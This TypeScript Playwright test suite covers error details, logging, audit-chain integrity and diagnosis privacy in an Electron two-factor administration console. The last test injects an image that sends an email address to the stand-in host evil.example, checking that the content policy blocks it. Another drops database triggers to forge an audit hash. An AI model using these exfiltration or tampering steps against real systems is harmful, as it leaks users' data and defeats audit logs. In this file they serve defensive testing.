import { once } from 'node:events'
import { createServer } from 'node:net'
import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import Database from 'better-sqlite3'
import type { Bridge } from '#shared/ipc/bridge.ts'
import { readLog } from '../../src/main/base/log/read-log.ts'
import type { LogLine } from '../../src/main/base/log/log-line.ts'
import { dispose, launchApp, type RunningApp } from '../support/electron/launch-app.ts'
import { findings } from '../support/electron/axe.ts'
import { findSecretsIn } from '../support/secrets/find-secrets.ts'
import { ConsolePage, customers, samplePassword } from '../support/electron/console-page.ts'
import { chooseFile, saveTo } from '../support/electron/system-dialogs.ts'
import { startTestSandbox } from '../support/portal/sandbox.ts'
import { readZip } from '../support/read-zip.ts'

const { seriMuda, kenari, bayu } = customers

let app: RunningApp
let consolePage: ConsolePage

test.beforeEach(async () => {
  app = await launchApp()
  consolePage = new ConsolePage(app.page, app.sandbox)
})
test.afterEach(async () => {
  await app.close()
  dispose(app.profile)
})

const log = (): LogLine[] =>
  readLog(join(app.profile, 'logs'))
    .reverse()
    .flatMap(({ lines }) => lines)

/** Presses "Copy details" of the only failure on the screen and reads what is on the clipboard then. */
async function copied(name = 'Copy details'): Promise<string> {
  const button = app.page.getByRole('button', { name, exact: true })
  await expect(button).toHaveCount(1)
  const text = (): Promise<string> => app.electron.evaluate(({ clipboard }) => clipboard.readText())
  const before = await text()
  await button.click()
  await expect(app.page.getByRole('status').filter({ hasText: 'Copied' })).toHaveCount(1)
  // The clipboard of a display belongs to the process that owns it, so it is there a moment later.
  await expect.poll(text).not.toBe(before)
  return text()
}

const traceIn = (details: string): string => /^Trace ID: (\S+)$/m.exec(details)?.[1] ?? ''

test('each kind of failure has its details, and their trace is the one in the log', async () => {
  await app.page.getByLabel('User ID').fill(bayu.userId)
  await app.page.getByLabel('Password', { exact: true }).fill('not the password')
  await consolePage.button('Sign in').last().click()
  const refused = await copied()
  expect(refused).toMatch(
    /^FactorDesk \d+\.\d+\.\d+\nWhen: 20\d\d-\S+Z\nOperation: session\.signIn\nCode: \S+\nTrace ID: \S+\n/,
  )
  const called = log().filter(({ trace }) => trace === traceIn(refused))
  expect(called.map(({ event }) => event)).toEqual(['portal.called', 'audit.entry', 'operation.failed'])
  for (const secret of [bayu.userId, 'not the password']) expect(refused).not.toContain(secret)

  await consolePage.signIn(kenari, 'sms')
  await consolePage.openSecurity(kenari)
  await consolePage.button('Manage two-factor authentication').click()
  await consolePage.button('Disable 2FA').click()
  await consolePage.confirmPreflight()
  await consolePage.disable('not the password')
  const step = await copied()
  expect(step).toMatch(/Operation: procedure at disable\nCode: wrong-password\n/)
  const ofStep = log().filter(({ trace }) => trace === traceIn(step))
  expect(ofStep).toMatchObject([
    { event: 'portal.called', facts: { endpoint: 'disableTwoFactor', status: 403 } },
    { event: 'audit.entry', facts: { action: 'effect.rejected' } },
  ])

  const path = '/accounts/{accountId}/two-factor/disable'
  await app.sandbox.plan({ method: 'POST', path, fault: 'cut-after', times: 1 })
  await app.sandbox.plan({ method: 'GET', path: '/operations/{key}', fault: 'unavailable', times: 1 })
  await consolePage.disable()
  await expect(consolePage.heading('Outcome unknown')).toBeVisible()
  const unknown = await copied()
  // Nothing was answered that could have a trace: the call that was lost is found by its time and its name.
  expect(unknown).toMatch(/Operation: procedure: disable\nCode: outcome-unknown\nTrace ID: none\n/)
  const said = /^When: (\S+)$/m.exec(unknown)?.[1] ?? ''
  const lost = log().filter(({ event, facts }) => event === 'portal.called' && facts['outcome'] === 'lost')
  expect(lost).toMatchObject([{ facts: { endpoint: 'disableTwoFactor' } }])
  expect(lost[0]).not.toHaveProperty('trace')
  expect(Math.abs(Date.parse(said) - Date.parse(lost[0]!.at))).toBeLessThan(30_000)
})

async function picture(name: string): Promise<void> {
  for (const colorScheme of ['light', 'dark'] as const) {
    await app.page.emulateMedia({ colorScheme })
    expect(await findings(app.page)).toEqual([])
    if (process.env['FACTORDESK_PICTURES'])
      await app.page.screenshot({ path: join(process.env['FACTORDESK_PICTURES'], `${name}-${colorScheme}.png`) })
  }
}

test('a line that was not read, and a file that was refused, have their details', async () => {
  await consolePage.signIn(bayu, null)
  await app.page.getByRole('link', { name: 'Accounts' }).first().click()
  await app.sandbox.plan({ method: 'GET', path: '/accounts/{accountId}/two-factor', fault: 'unavailable', times: 100 })
  await consolePage.button('Refresh all').click()
  const row = app.page.getByRole('row', { name: new RegExp(bayu.name) })
  await expect(row).toContainText('Unavailable')
  await picture('not-read')
  const details = await copied(`Copy details: ${bayu.name}`)
  expect(details).toMatch(/Operation: accountList\.refresh\nCode: unavailable\nTrace ID: \S+\n/)
  expect(log().some(({ event, trace }) => event === 'portal.called' && trace === traceIn(details))).toBe(true)
  // To copy is not to choose or to open the line.
  await expect(row).toHaveAttribute('aria-selected', 'false')

  const file = join(app.profile, 'names.csv')
  writeFileSync(file, 'User ID;PIN\r\nit@bambooquay.example;4711\r\n')
  await chooseFile(app, file)
  await consolePage.button('Import names').click()
  await consolePage.button('Choose a file').click()
  await picture('file-refused')
  const refused = await copied()
  expect(refused).toMatch(/Operation: accountList\.previewImport\nCode: invalid-request\nTrace ID: none\nColumn 2\. /)
  expect(refused).not.toContain('4711')
  rmSync(file)
})

/** One call over the bridge, which must go well. */
async function call<N extends keyof Bridge['call']>(name: N, input: Parameters<Bridge['call'][N]>[0]): Promise<void> {
  const asked = [name, input] as const
  const outcome = await app.page.evaluate(([of, given]) => window.factordesk.call[of](given as never), asked)
  expect(outcome.ok, name).toBe(true)
}

test('an account of a queue that failed has its details', async () => {
  await consolePage.signIn(bayu, null)
  const plan = { kind: 'disable', to: null, reason: 'maintenance', note: '', howLong: 'today' } as const
  await call('queue.start', { accountIds: [bayu.id], ...plan })
  await call('queue.next', {})
  await app.page.getByRole('link', { name: 'Queue' }).first().click()
  await expect(app.page.getByRole('row', { name: new RegExp(bayu.name) })).toContainText('Not done:')
  await picture('queue-failed')
  const details = await copied(`Copy details: ${bayu.name}`)
  expect(details).toMatch(/\nOperation: queue: disable\nCode: already-so\nTrace ID: \S+\nNot done: /)
})

test('a chain that is broken has its details', async () => {
  await app.page.getByRole('link', { name: 'Audit' }).click()
  const chain = app.page.getByRole('region', { name: 'Chain' })
  await expect(chain.getByRole('status').first()).toHaveText(/^(Intact to entry|Not anchored since entry)/)
  await expect(chain.getByRole('button', { name: 'Copy details' })).toHaveCount(0)
  const db = new Database(join(app.profile, 'factordesk.sqlite'))
  for (const { name } of db
    .prepare<[], { name: string }>("SELECT name FROM sqlite_master WHERE type = 'trigger'")
    .all())
    if (name.startsWith('entry_is_final')) db.exec(`DROP TRIGGER ${name}`)
  db.exec("UPDATE entry SET hash = replace(hash, substr(hash, 1, 4), 'beef') WHERE seq = 1")
  db.close()
  await chain.getByRole('button', { name: 'Check again' }).click()
  await expect(chain.getByRole('status').first()).toHaveText(/^Broken at entry 1: /)
  await picture('chain-broken')
  expect(await copied()).toMatch(/\nOperation: audit\.verify\nCode: audit-broken\nTrace ID: none\nBroken at entry 1: /)
})

test('a portal that does not answer has its details', async () => {
  const other = await startTestSandbox()
  const silent = createServer((socket) => socket.destroy())
  try {
    await call('portal.add', { address: other.baseUrl })
    await other.stop()
    const { host: portalId, port } = new URL(other.baseUrl)
    // Kept open, so that no other program on this machine gets the port and answers there.
    silent.listen(Number(port), '127.0.0.1')
    await once(silent, 'listening')
    await app.page.evaluate((id) => window.factordesk.call['portal.tryAgain']({ portalId: id }), portalId)
    await expect(app.page.getByText(/ does not answer\./)).toBeVisible()
    await picture('portal-away')
    expect(await copied()).toContain(`\nOperation: portal: ${portalId}\nCode: portal-unreachable\nTrace ID: none\n`)
  } finally {
    silent.close()
    await other.close()
  }
})

test('a diagnosis lists what is in it, is saved, and names nobody', async () => {
  await consolePage.signIn(seriMuda, 'authenticator')
  await consolePage.signIn(bayu, null)
  await app.page.getByRole('link', { name: 'Settings' }).click()
  const section = app.page.getByRole('region', { name: 'Diagnosis' })
  const listed = ['system.json', 'settings.json', 'database.json', 'recent-failures.jsonl', 'logs/factordesk.log']
  await expect(section.getByRole('rowheader')).toHaveText(listed)
  expect(await findings(app.page)).toEqual([])
  for (const theme of ['light', 'dark'] as const) {
    await app.page.emulateMedia({ colorScheme: theme })
    await section.scrollIntoViewIfNeeded()
    if (process.env['FACTORDESK_PICTURES'])
      await app.page.screenshot({ path: join(process.env['FACTORDESK_PICTURES'], `diagnosis-${theme}.png`) })
  }
  const target = join(app.profile, 'diagnosis.zip')
  await saveTo(app, target)
  await section.getByRole('button', { name: 'Save a diagnosis' }).press('Enter')
  await expect(section.getByText(`Saved: ${target}`)).toBeVisible()
  const files = await readZip(target)
  expect([...files.keys()]).toEqual(listed)
  const names = [seriMuda, kenari, bayu].flatMap(({ id, userId, name }) => [id, userId, name])
  const secrets = [...names, samplePassword, '60100000142', '60100000268', '60100000391']
  for (const [name, content] of files) expect(findSecretsIn(content.toString(), name, secrets)).toEqual([])
  expect(JSON.parse(files.get('system.json')!.toString())).toMatchObject({
    versions: { electron: expect.stringMatching(/^\d+/) as unknown, chrome: expect.stringMatching(/^\d+/) as unknown },
    platform: process.platform,
  })
  rmSync(target)
})

test('a violation of the content policy and a crash of the page are in the log', async () => {
  await app.page.evaluate(() => {
    const image = document.createElement('img')
    image.src = 'https://evil.example/x.png?who=it@serimuda.example'
    document.body.append(image)
  })
  await expect
    .poll(() => log().find(({ event }) => event === 'page.policy-violated')?.facts)
    .toEqual({ directive: 'img-src' })
  await app.electron.evaluate(({ BrowserWindow }) => {
    BrowserWindow.getAllWindows()[0]!.webContents.forcefullyCrashRenderer()
  })
  await expect.poll(() => log().some(({ event }) => event === 'page.gone')).toBe(true)
  expect(readFileSync(join(app.profile, 'logs', 'factordesk.log'), 'utf8')).not.toMatch(/evil|serimuda/)
  await app.kill()
})
